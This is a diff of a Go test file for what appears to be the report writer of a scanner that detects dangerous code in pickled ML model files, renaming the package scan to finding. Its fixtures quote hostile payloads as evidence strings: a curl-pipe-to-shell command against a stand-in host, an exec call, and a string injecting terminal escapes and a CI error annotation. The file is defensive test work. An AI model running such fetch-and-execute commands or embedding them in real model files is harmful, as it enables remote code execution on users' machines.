@@ -12,7 +12,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/modelgate/modelgate/baseline"
-	"github.com/modelgate/modelgate/scan"
+	"github.com/modelgate/modelgate/finding"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files in testdata")
@@ -21,47 +21,47 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata")
 // import in a member, a raw pickle whose path needs percent-encoding and
 // whose strings carry control characters, a file-level finding without an
 // offset, and clean and skipped files.
-func sampleReport() *scan.Report {
-	files := []scan.FileResult{
-		{Path: "clean/weights.safetensors", Format: "safetensors", Status: scan.StatusScanned},
-		{Path: "docs/readme.txt", Status: scan.StatusSkipped},
-		{Path: "models/evil.pt", Format: "pytorch", Status: scan.StatusScanned,
+func sampleReport() *finding.Report {
+	files := []finding.FileResult{
+		{Path: "clean/weights.safetensors", Format: "safetensors", Status: finding.StatusScanned},
+		{Path: "docs/readme.txt", Status: finding.StatusSkipped},
+		{Path: "models/evil.pt", Format: "pytorch", Status: finding.StatusScanned,
 			Members: []string{"archive/data.pkl"},
-			Findings: []scan.Finding{
-				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper"},
-				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
-				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
+			Findings: []finding.Finding{
+				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper"},
+				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
+				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
 			}},
-		{Path: "odd dir/x:y%z.pkl", Format: "pickle", Status: scan.StatusPartial,
-			Findings: []scan.Finding{
-				{Rule: scan.RuleMalformedPickle, Severity: scan.Medium, Message: "stream ends without STOP", Offset: 60, Length: 1},
-				{Rule: scan.RuleUnknownCall, Severity: scan.High, Message: "calls evil.run", Offset: 3, Length: 9, Callable: "evil.run", Evidence: "evil.run('\x1b[31m::error::pwned\n')"},
-				{Rule: scan.RuleTrailingData, Severity: scan.Low, Message: "12 bytes after the last pickle", Offset: 61},
+		{Path: "odd dir/x:y%z.pkl", Format: "pickle", Status: finding.StatusPartial,
+			Findings: []finding.Finding{
+				{Rule: finding.RuleMalformedPickle, Severity: finding.Medium, Message: "stream ends without STOP", Offset: 60, Length: 1},
+				{Rule: finding.RuleUnknownCall, Severity: finding.High, Message: "calls evil.run", Offset: 3, Length: 9, Callable: "evil.run", Evidence: "evil.run('\x1b[31m::error::pwned\n')"},
+				{Rule: finding.RuleTrailingData, Severity: finding.Low, Message: "12 bytes after the last pickle", Offset: 61},
 			}},
-		{Path: "big/model.bin", Format: "pickle", Status: scan.StatusNotScanned,
-			Findings: []scan.Finding{{Rule: scan.RuleUnscannable, Severity: scan.High, Message: "file exceeds the size limit", Offset: -1}}},
+		{Path: "big/model.bin", Format: "pickle", Status: finding.StatusNotScanned,
+			Findings: []finding.Finding{{Rule: finding.RuleUnscannable, Severity: finding.High, Message: "file exceeds the size limit", Offset: -1}}},
 	}
-	return &scan.Report{Files: files, Summary: scan.Summarize(files, 0)}
+	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
 }
 
-func cleanReport() *scan.Report {
-	files := []scan.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: scan.StatusScanned}}
-	return &scan.Report{Files: files, Summary: scan.Summarize(files, 0)}
+func cleanReport() *finding.Report {
+	files := []finding.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: finding.StatusScanned}}
+	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
 }
 
 // suppressedReport: one of two os.system findings is allowed by policy.
 // and the findings carry baseline states.
-func suppressedReport() *scan.Report {
-	files := []scan.FileResult{{Path: "m.pkl", Format: "pickle", Status: scan.StatusScanned,
-		Findings: []scan.Finding{
-			{Rule: scan.RuleUnknownClass, Severity: scan.Medium, Message: "builds mypkg.models.Net", Offset: 2, Length: 30, Callable: "mypkg.models.Net",
-				Suppression: &scan.Suppression{Kind: "external", Justification: "our own model class (reviewed)"}, Baseline: "unchanged"},
-			{Rule: scan.RuleUnknownClass, Severity: scan.Medium, Message: "builds other.Thing", Offset: 50, Length: 20, Callable: "other.Thing", Baseline: "new"},
+func suppressedReport() *finding.Report {
+	files := []finding.FileResult{{Path: "m.pkl", Format: "pickle", Status: finding.StatusScanned,
+		Findings: []finding.Finding{
+			{Rule: finding.RuleUnknownClass, Severity: finding.Medium, Message: "builds mypkg.models.Net", Offset: 2, Length: 30, Callable: "mypkg.models.Net",
+				Suppression: &finding.Suppression{Kind: "external", Justification: "our own model class (reviewed)"}, Baseline: "unchanged"},
+			{Rule: finding.RuleUnknownClass, Severity: finding.Medium, Message: "builds other.Thing", Offset: 50, Length: 20, Callable: "other.Thing", Baseline: "new"},
 		}}}
-	return &scan.Report{Files: files, Summary: scan.Summarize(files, 0)}
+	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
 }
 
-func write(t *testing.T, r *scan.Report, opts Options) []byte {
+func write(t *testing.T, r *finding.Report, opts Options) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	if err := Write(&buf, r, opts); err != nil {
@@ -124,9 +124,9 @@ func TestDeterministic(t *testing.T) {
 }
 
 func TestUnknownRule(t *testing.T) {
-	files := []scan.FileResult{{Path: "a.pkl", Findings: []scan.Finding{{Rule: "MG999", Severity: scan.High, Offset: -1}}}}
+	files := []finding.FileResult{{Path: "a.pkl", Findings: []finding.Finding{{Rule: "MG999", Severity: finding.High, Offset: -1}}}}
 	var buf bytes.Buffer
-	if err := Write(&buf, &scan.Report{Files: files}, Options{}); err == nil {
+	if err := Write(&buf, &finding.Report{Files: files}, Options{}); err == nil {
 		t.Error("a finding with an unknown rule was written")
 	}
 }
@@ -150,14 +150,14 @@ func TestURI(t *testing.T) {
 }
 
 func TestLineHashIgnoresOffset(t *testing.T) {
-	a := scan.Finding{Rule: "MG001", Member: "m", Callable: "os.system", Offset: 1}
+	a := finding.Finding{Rule: "MG001", Member: "m", Callable: "os.system", Offset: 1}
 	b := a
 	b.Offset = 999
-	if LineHash(scan.Fingerprint("p", a)) != LineHash(scan.Fingerprint("p", b)) {
+	if LineHash(finding.Fingerprint("p", a)) != LineHash(finding.Fingerprint("p", b)) {
 		t.Error("fingerprint depends on the offset")
 	}
 	b.Callable = "os.popen"
-	if LineHash(scan.Fingerprint("p", a)) == LineHash(scan.Fingerprint("p", b)) {
+	if LineHash(finding.Fingerprint("p", a)) == LineHash(finding.Fingerprint("p", b)) {
 		t.Error("fingerprint ignores the callable")
 	}
 }
